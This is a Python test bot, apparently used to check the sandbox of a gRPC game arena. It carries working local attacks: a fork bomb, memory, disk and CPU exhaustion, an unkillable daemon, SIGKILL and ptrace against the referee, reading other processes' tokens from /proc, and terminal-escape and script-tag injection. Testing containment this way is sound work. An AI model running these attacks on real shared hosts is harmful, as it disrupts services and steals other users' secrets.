"""A bot that attacks the machine it runs on: `intruder.py ATTACK [ARGUMENT...] MARK`. See `ATTACKS` for what it can do.

The last argument marks its processes, so that tests can find them; those it starts get it too.

It prints what it gained, a line for each success beginning with GOT, and otherwise plays well: an attack costs
nobody a match, not even the attacker, unless it stops answering.
"""

import ctypes
import errno
import mmap
import os
import signal
import socket
import sys
import time
from collections.abc import Callable
from pathlib import Path

import grpc

from referee.v1.play_pb2 import PlayRequest, PlayResponse
from sample_bots.naughty.naughty import Conversation

ENOUGH = 1000
"""Number of child processes, and of MiB, at which an attack counts as successful."""

PTRACE_ATTACH = 16


def tell(what: str, failure: OSError | None = None) -> None:
    """Print what the attack gained, or the error."""
    print(f"GOT {what}" if failure is None else f"{what}: {errno.errorcode.get(failure.errno or 0)}", flush=True)


def fork_bomb() -> None:
    """Starts child processes at the first question until that fails, and keeps them; then plays."""
    conversation = Conversation()
    for number, question in enumerate(conversation.questions()):
        count = 0
        try:
            while number == 0 and count < ENOUGH:
                os.posix_spawnp("sleep", ["sleep", "3600"], os.environ)
                count += 1
            if number == 0:
                tell(f"{count} children")
        except OSError as failure:
            tell(f"children, {count} of them", failure)
        conversation.answer(question.id, question.legal[0])


def memory_hog() -> None:
    """Allocates more memory than its limit at the first question."""
    for _ in Conversation().questions():
        blocks = [bytearray(16 << 20) for _ in range(ENOUGH)]
        tell(f"{len(blocks) * 16} MiB")


def memory_family() -> None:
    """Allocates as much shared memory as it can at the first question."""
    for _ in Conversation().questions():
        blocks = []
        for _ in range(ENOUGH // 16):
            blocks.append(mmap.mmap(-1, 16 << 20))  # shared, so it does not count as data of this process
            for page in range(0, 16 << 20, mmap.PAGESIZE):
                blocks[-1][page] = 1
        tell(f"{len(blocks) * 16} MiB")
        time.sleep(3600)


def disk_filler() -> None:
    """Writes to every writable folder until that fails, then plays."""
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~")):
        written = 0
        try:
            for number in range(ENOUGH):
                with open(f"{folder}/filler-{os.getpid()}-{number}", "wb", buffering=0) as file:
                    while written < ENOUGH:
                        file.write(bytes(1 << 20))
                        written += 1
            tell(f"{written} MiB in {folder}")
        except OSError as failure:
            tell(f"{folder} after {'some' if written else 'no'} MiB", failure)
    Conversation().play()


def cpu_burner() -> None:
    """Computes forever at the first question, in nine processes."""
    for _ in Conversation().questions():
        for _ in range(8):
            os.posix_spawnp("sh", ["sh", "-c", "while :; do :; done"], os.environ)
        while True:
            pass


def double_fork() -> None:
    """Starts a daemon that ignores signals, then plays."""
    daemon = "trap '' TERM INT HUP; while :; do sleep 3600; done"
    os.posix_spawnp("setsid", ["setsid", "-f", "sh", "-c", daemon, sys.argv[-1]], os.environ)
    Conversation().play()


def killer() -> None:
    """Tries to kill and to trace the referee and its own parent, then plays."""
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (int(sys.argv[2]), os.getppid()):
        try:
            os.kill(pid, signal.SIGKILL)
            # The first process of a namespace ignores signals from inside.
            if pid != 1:
                tell("kill of its parent" if pid == os.getppid() else "kill of the referee")
        except OSError as failure:
            tell("kill", failure)
        if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            tell("ptrace")
    Conversation().play()


def reader() -> None:
    """Reads files of others, by path and by its own links, and the environments of other processes."""
    for number, path in enumerate(word.removeprefix("at:") for word in sys.argv[2:-1]):
        for way in (path, _link(path, number), f"/proc/self/root{path}", f"/proc/{os.getppid()}/root{path}"):
            try:
                with open(way, "rb") as file:
                    tell(f"{len(file.read(1 << 20)) and path} by {way}")
            except OSError as failure:
                tell(path, failure)
    own_token = os.environ["ARENA_TOKEN"].encode()
    for entry in Path("/proc").iterdir():
        try:
            environ = (entry / "environ").read_bytes() if entry.name.isdigit() else b""
        except OSError:
            continue
        if b"ARENA_TOKEN=" in environ and own_token not in environ:
            tell(f"the token of process {entry.name}")
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if b"-m\0referee" in entry.read_bytes():
                tell(f"the command line of {entry}")
        except OSError:
            continue
    Conversation().play()


def _link(path: str, number: int) -> str:
    link = f"/tmp/link-{os.getpid()}-{number}"
    try:
        os.symlink(path, link)
    except OSError:
        return path
    return link


def network() -> None:
    """Connects to the local port in its first argument, to the internet, and to the abstract socket in its second."""
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", int(sys.argv[2]))),
        (socket.AF_INET, ("192.0.2.1", 80)),
        (socket.AF_INET6, ("::1", int(sys.argv[2]))),
        (socket.AF_UNIX, "\0" + sys.argv[3]),
    ):
        try:
            with socket.socket(family) as connection:
                connection.settimeout(1)
                connection.connect(address)
            tell(f"a connection to {address!r}")
        except OSError as failure:
            tell(f"{family.name}", failure)
    Conversation().play()


def second_stream() -> None:
    """Says hello with its token on a second stream too, then plays on the first."""
    first = Conversation()
    questions = first.questions()
    question = next(questions)
    second = Conversation()
    for response in second.responses():
        kind = response.WhichOneof("message")
        print(f"GOT a {kind}" if kind != "refusal" else f"refused: {response.refusal.sentence}", flush=True)
        break
    first.answer(question.id, question.legal[0])
    for question in questions:
        first.answer(question.id, question.legal[0])


def foreign_answers() -> None:
    """Answers questions of others, by guessed numbers, and then its own."""
    conversation = Conversation()
    for question in conversation.questions():
        request = PlayRequest()
        for number in (*range(max(0, question.id - 5), question.id), *range(question.id + 1, question.id + 6)):
            request.answers.answers.add(question=number + (1 << 20), index=0)
        conversation.say(request)
        conversation.answer(question.id, question.legal[0])


def torn() -> None:
    """Answers with truncated messages."""
    conversation = Conversation()
    for question in conversation.questions():
        request = PlayRequest()
        request.answers.answers.add(question=question.id, text=question.legal[0])
        conversation.raw(request.SerializeToString()[:-1])


def half_a_call() -> None:
    """Connects without gRPC, sends half of the headers of a stream, and waits."""
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(os.environ["ARENA_ADDRESS"].removeprefix("unix:"))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x2a\x01\x04\x00\x00\x00\x01half")
    time.sleep(3600)


def slow() -> None:
    """Waits before each answer for the seconds in its first argument."""
    conversation = Conversation()
    for question in conversation.questions():
        time.sleep(float(sys.argv[2]))
        conversation.answer(question.id, question.legal[0])


def reconnect() -> None:
    """Ends its stream at the first question, and connects again with the same token."""
    for _ in Conversation().questions():
        break
    second: list[PlayResponse] = list(Conversation().responses())
    print("refused" if all(response.HasField("refusal") for response in second) else f"GOT {second}", flush=True)
    time.sleep(3600)


def crash_at_end() -> None:
    """Plays to the end, then dies of a signal."""
    Conversation().play()
    os.kill(os.getpid(), signal.SIGSEGV)


def escapes() -> None:
    """Writes terminal escapes and HTML in its name, version, notes, talk, moves and output."""
    poison = "\x1b]0;owned\x07\x1b[31m<script>alert(1)</script>\u202e\x00"
    conversation = Conversation(name=poison, version=poison)
    for number, question in enumerate(conversation.questions()):
        print(poison, flush=True)
        print(poison, file=sys.stderr, flush=True)
        request = PlayRequest()
        answer = request.answers.answers.add(question=question.id, note=poison, say=poison)
        answer.text = question.legal[0] if number else poison
        conversation.say(request)


def flood_errors() -> None:
    """Fills standard error and standard output with megabytes, then plays."""
    for _ in range(8):
        os.write(2, b"error " * 20_000)
        os.write(1, b"\x1b[2J" * 30_000)
    Conversation().play()


ATTACKS: dict[str, Callable[[], None]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        fork_bomb, memory_hog, memory_family, disk_filler, cpu_burner, double_fork, killer, reader, network,
        second_stream, foreign_answers, torn, half_a_call, slow, reconnect, crash_at_end, escapes, flood_errors,
    )
}  # fmt: skip


if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: intruder.py {'|'.join(ATTACKS)} [ARGUMENT...] MARK")
    try:
        ATTACKS[sys.argv[1]]()
    except grpc.RpcError:
        sys.exit(1)
